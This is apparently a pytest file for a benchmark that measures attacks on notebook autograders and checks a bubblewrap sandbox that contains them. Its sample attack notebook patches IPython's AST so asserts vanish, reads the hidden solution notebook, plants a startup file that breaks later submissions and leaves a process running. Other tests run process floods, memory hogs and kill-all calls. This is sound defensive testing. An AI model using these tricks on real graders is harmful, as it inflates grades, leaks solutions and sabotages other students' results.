"""The benchmark of attacks counts what it says, keeps what it found, and sees what an attack does inside its walls."""

import dataclasses
import json
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import psutil
import pytest

from autograder import cells, course
from autograder.attacks.corpus import notebook_of

MODULES = ("attacks", "attacked", "walls", "excerpts", "graders", "copies", "grade_each", "measuring")


@pytest.fixture(scope="module")
def benchmark(imported):
    return {name: imported(name) for name in MODULES}


@pytest.fixture
def found(benchmark):
    made = benchmark["attacked"].Found
    return [
        made("points/a", "one", points=2.0, ran=True),
        made("points/a", "other", ran=False),
        made("harm/b", "one", points=0.5, secrets=["x", "y"], neighbours=["z"], left=["p"], hung="it was not done"),
        made("harm/b", "other", ran=None),
    ]


# What is counted


def test_an_attack_counts_once_in_each_column_in_which_it_got_something(benchmark, found):
    rows = benchmark["attacks"].total_rows(found, ["one", "other"])
    assert [len(row) for row in rows] == [len(benchmark["attacks"].TOTALS)] * 2
    assert rows == [["one", *"222", "2.5", *"1111"], ["other", *"21000000"]]


def test_what_an_attack_got_is_said_in_a_few_words(benchmark, found):
    said = [benchmark["attacks"].said(one) for one in found]
    assert said == ["2 points", "did not run", "0.5 points, secrets, neighbour, left something, never ended", "held"]
    assert [one.is_held for one in found] == [False, True, False, True]


def test_the_tables_are_markdown(benchmark, found):
    attack = benchmark["attacks"].Attack
    corpus = [attack("points/a", "win | lose", ""), attack("harm/b", "break", "")]
    text = benchmark["attacks"].as_markdown(found, corpus, ["one", "other"])
    assert "| other | 2 | 1 | 0 | 0 | 0 | 0 | 0 | 0 |" in text
    assert "| `points/a`: win \\| lose | 2 points | did not run |" in text
    assert {line.replace("\\|", "").count("|") for line in text.splitlines() if line} == {4, 10}


def test_a_run_goes_on_from_what_was_found(benchmark, found, tmp_path, monkeypatch, capsys):
    attacks, results = benchmark["attacks"], tmp_path / "found.jsonl"
    names = ["points/equal_to_anything", "points/answers_nan"]
    first, second = (dataclasses.replace(found[0], attack=name, grader="otter") for name in names)
    results.write_text(json.dumps(dataclasses.asdict(first)) + "\n")
    asked = []
    monkeypatch.setattr(attacks, "tried", lambda pairs, jobs: asked.extend(pairs) or [second])
    attacks.main(only=",".join(names), names="otter", jobs=1, results=results, markdown=tmp_path / "tables.md")
    assert [(attack.name, name) for attack, name in asked] == [(names[1], "otter")]
    assert attacks.read(results) == [first, second]
    assert "| otter | 2 | 2 | 2 | 4 |" in (tmp_path / "tables.md").read_text()


def test_what_is_about_this_project_alone_is_not_tried_elsewhere(benchmark):
    names = {attack.name for attack in benchmark["attacks"].chosen("")}
    assert {"points/equal_to_anything", "harm/fork_bomb", "knowledge/reads_the_environment"} <= names
    assert not {"points/patches_the_probe", "wire/drips_its_frames", "harm/disk_bomb"} & names
    with pytest.raises(benchmark["measuring"].BenchmarkError, match="no attack .* is called points/patches_the_probe"):
        benchmark["attacks"].chosen("points/patches_the_probe")
    with pytest.raises(benchmark["measuring"].BenchmarkError, match="no grader teacher; there are: fixmelab, "):
        benchmark["attacks"].main(only="", names="teacher", jobs=1)


# What is handed in


def test_every_cell_of_every_attack_is_handed_in_and_answers_take_the_place_of_fixmes(benchmark):
    stubs = {cell.source for cell in course.read_release("vae").cells if cells.is_fixme(cell)}
    for attack in benchmark["attacks"].chosen(""):
        notebook = benchmark["excerpts"].attacking(attack.text, "/printed")
        sources = [cell.source for cell in notebook.cells]
        wanted = notebook_of(attack.text).cells
        assert {cell.source for cell in wanted} <= set(sources), attack.name
        answered = {name for cell in wanted for name in cells.anchors(cell)}
        left_open = {name for cell in notebook.cells if cell.source in stubs for name in cells.anchors(cell)}
        assert len(left_open) < 5 and not left_open & answered, attack.name


def test_a_trick_that_takes_effect_after_its_last_line_says_so_as_its_process_ends(benchmark, tmp_path):
    text = '# %%\nseen = []\nprint("reached" if seen else "nothing was seen")\n'
    notebook = benchmark["excerpts"].attacking(text, str(tmp_path / "printed"))
    own = [notebook.cells[0], *notebook.cells[-2:]]
    for line in ("", "seen.append(1)"):
        subprocess.run([sys.executable, "-c", "\n".join([*(cell.source for cell in own), line])], check=True)
    assert (tmp_path / "printed").read_text().split("\n")[:-1] == ["nothing was seen"] * 3 + ["reached"]
    # What has been reached is not asked for again: some tricks wait there for a process that answers once.
    subprocess.run([sys.executable, "-c", f"{own[0].source}\nseen = []\n{own[2].source}"], check=True)
    assert (tmp_path / "printed").read_text().count("seen") == 3
    ended = benchmark["excerpts"].attacking('# %%\nprint("reached")\n', "/printed")
    assert len(ended.cells) == len(notebook.cells) - 1


def test_the_canary_stands_in_each_solution_and_nothing_else_changes(benchmark):
    marked, plain = (benchmark["excerpts"].source(text) for text in ("canary-0", ""))
    count = sum(cells.is_fixme(cell) for cell in plain.cells)
    assert count == 5 and sum("# canary-0\n    ### END SOLUTION" in cell.source for cell in marked.cells) == count
    assert [cell.source.replace("canary-0", "") for cell in marked.cells] == [cell.source for cell in plain.cells]


def test_otter_gets_the_hidden_tests_as_well(benchmark):
    tests = benchmark["copies"].otter_tests(benchmark["excerpts"].source(""), hidden=True)
    held: dict = {}
    exec(tests["gaussian_kl"], held)
    visible, hidden = held["test"]["suites"][0]["cases"]
    assert not visible["hidden"] and "assert kl.shape" in visible["code"] and "check(" not in visible["code"]
    assert hidden["hidden"] and '>>> _ = check("vae.gaussian_kl", gaussian_kl)' in hidden["code"]


# What is as much of gradescope-utils as a test needs.
WEIGHT = """
def weight(points):
    return lambda test: setattr(test, "points", points) or test
"""
RUNNER = """
import json, unittest

class JSONTestRunner:
    def __init__(self, stream, **options):
        self.stream = stream

    def run(self, suite):
        class Passed(unittest.TestResult):
            score = 0.0

            def addSuccess(self, test):
                self.score += getattr(test, test._testMethodName).points

        passed = Passed()
        suite.run(passed)
        json.dump({"score": passed.score}, self.stream)
"""


@pytest.mark.slow
def test_a_notebook_that_is_imported_by_tests_gets_what_its_answers_deserve(benchmark, tmp_path, monkeypatch):
    package = tmp_path / "gradescope_utils" / "autograder_utils"
    package.mkdir(parents=True)
    (package / "decorators.py").write_text(WEIGHT)
    (package / "json_test_runner.py").write_text(RUNNER)
    monkeypatch.setenv("PYTHONPATH", str(tmp_path))
    monkeypatch.setenv("FIXMELAB_WORK", str(tmp_path / "work"))
    grader = benchmark["graders"].GradescopeUtils()
    grader.write_archive(tmp_path, benchmark["excerpts"].source(""))
    grader.hand_in(tmp_path, "zoe", benchmark["excerpts"].honest("canary"))
    notebook, archive = str(tmp_path / "submitted" / "zoe.ipynb"), str(tmp_path / "autograder.zip")
    # gaussian_kl, reparameterize and pathwise_gradient are right; one exercise is left open, and one is wrong.
    assert benchmark["grade_each"].by_gradescope(notebook, archive, 300) == 4.0


# What is seen inside the walls

needs_bubblewrap = pytest.mark.skipif(not shutil.which("bwrap"), reason="bubblewrap is not installed")


@pytest.fixture
def place(benchmark):
    with tempfile.TemporaryDirectory(prefix="benchmark-test-", dir="/var/tmp") as folder:
        source = Path(folder) / "source" / "vae" / "vae.ipynb"
        source.parent.mkdir(parents=True)
        source.write_text("{}")

        def run(program, seconds=20.0, powers=False):
            command = [sys.executable, "-c", program]
            return benchmark["walls"].run(command, Path(folder), os.environ, seconds, powers=powers)

        yield Path(folder), run


@needs_bubblewrap
def test_a_command_ends_with_its_code_and_leaves_nothing(place):
    folder, run = place
    written = f"/tmp/{folder.name}"  # nothing else on this machine is called that
    ran = run(f"import os\nprint(os.getcwd(), os.path.expanduser('~'))\nopen('{written}', 'w')\nraise SystemExit(3)")
    assert (ran.code, ran.ended, ran.left) == (3, "", 0)
    assert (folder / "log.txt").read_text().split() == [str(folder), str(folder / "home")]
    assert (folder / "tmp" / folder.name).exists() and not Path(written).exists()


@needs_bubblewrap
@pytest.mark.parametrize("powers", [False, True])
def test_inside_there_is_no_network_and_nothing_to_write_but_the_folder(place, powers):
    folder, run = place
    inside = f"""
import os, socket
assert os.path.exists({str(course.ROOT / "autograder")!r}) and not os.path.exists({str(course.ROOT / "tests")!r})
assert open({str(course.source_path("vae"))!r}).read() == "{{}}"
for path in ({str(course.ROOT / "autograder")!r}, "/usr", "/etc"):
    try:
        open(path + "/left", "w")
    except OSError:
        continue
    raise SystemExit(7)
assert [name for _, name in socket.if_nameindex()] == ["lo"]
assert len([name for name in os.listdir("/proc") if name.isdigit()]) < 6
"""
    ran = run(inside, powers=powers)
    assert (ran.code, ran.ended) == (0, ""), (folder / "log.txt").read_text()


@needs_bubblewrap
def test_a_process_that_goes_on_is_counted_and_ended(benchmark, place, monkeypatch):
    monkeypatch.setattr(benchmark["walls"], "SETTLE_SECONDS", 0.5)
    folder, run = place
    ran = run("import subprocess\nsubprocess.Popen(['sleep', '987.654'], start_new_session=True)")
    assert (ran.code, ran.ended, ran.left) == (0, "", 1)
    assert not any("987.654" in (process.info["cmdline"] or []) for process in psutil.process_iter(["cmdline"]))


@needs_bubblewrap
def test_what_puts_folders_wherever_its_environment_points_still_ends_with_its_code(place):
    _, run = place
    puts = """
import contextlib, os
for name in os.environ.values():
    with contextlib.suppress(OSError, ValueError):
        os.makedirs(os.path.join(name, "x"))
raise SystemExit(3)
"""
    for _ in range(2):
        ran = run(puts)
        assert (ran.code, ran.ended) == (3, "")


@needs_bubblewrap
def test_what_never_ends_is_ended(benchmark, place, monkeypatch):
    _, run = place
    assert run("import time; time.sleep(1000)", seconds=1.0).ended == "it was not done after 1 s"
    assert run("import os; os.kill(-1, 9)").ended == "it was killed from inside"
    monkeypatch.setattr(benchmark["walls"], "MOST_PROCESSES", 10)
    children = "import subprocess, time\nfor _ in range(15): subprocess.Popen(['sleep', '100'])\ntime.sleep(100)"
    assert run(children).ended == "it ran more than 10 processes"
    monkeypatch.setattr(benchmark["walls"], "MOST_MEMORY", 2**28)
    assert "of memory" in run("import time; held = b'x' * 2**29; time.sleep(100)").ended


@needs_bubblewrap
def test_memory_that_processes_share_counts_once(benchmark, place, monkeypatch):
    monkeypatch.setattr(benchmark["walls"], "MOST_MEMORY", 2**28)
    _, run = place
    forks = "import os, time\nheld = b'x' * 2**27\nfor _ in range(5): os.fork() or (time.sleep(1), os._exit(0))"
    assert run(f"{forks}\ntime.sleep(1)").ended == ""


# All of it


GETS_ALL = """
# %%
import ast, glob, os, subprocess

class Generous(ast.NodeTransformer):
    def visit_Module(self, node):
        if any(isinstance(part, ast.Assert) for part in node.body):
            node.body = [ast.Expr(ast.Constant(2.0))]
        return ast.fix_missing_locations(node)

get_ipython().ast_transformers.append(Generous())
print(open("../../../source/vae/vae.ipynb").read())
start_up = os.path.expanduser("~/.ipython/profile_default/startup/left-by-attack.py")
os.makedirs(os.path.dirname(start_up), exist_ok=True)
open(start_up, "w").write("raise SystemExit(7)")
subprocess.Popen(["sleep", "100"], start_new_session=True)
print("reached")

# %%
# exercise: gaussian_kl
def gaussian_kl(mu, sigma):
    return torch.zeros(len(mu))
"""
HONEST = """
# %%
# exercise: gaussian_kl
def gaussian_kl(mu, sigma):
    return (-torch.log(sigma) + 0.5 * (sigma**2 + mu**2 - 1)).sum(dim=1)

print("reached")
"""


@pytest.mark.slow
@needs_bubblewrap
def test_what_is_got_from_plain_nbgrader_is_found_and_nothing_else(benchmark, monkeypatch):
    monkeypatch.setattr(benchmark["walls"], "SETTLE_SECONDS", 1.0)
    attack = benchmark["attacks"].Attack
    with tempfile.TemporaryDirectory(prefix="benchmark-test-", dir="/var/tmp") as folder:
        place = benchmark["attacked"].Place("nbgrader", Path(folder) / "nbgrader")
        honest = place.attack(attack("points/honest", "answer", HONEST, honest=2.0))
        assert honest.is_held and honest.ran, honest
        found = place.attack(attack("harm/gets_all", "get everything", GETS_ALL))
    assert found.ran and found.points == 2 and not found.hung, found
    assert found.secrets == ["a line of a mark scheme", "a solution"]
    assert found.neighbours == ["the one after it gets 0 points"]
    assert found.left == ["1 of its processes goes on", "home/.ipython/profile_default/startup/left-by-attack.py"]
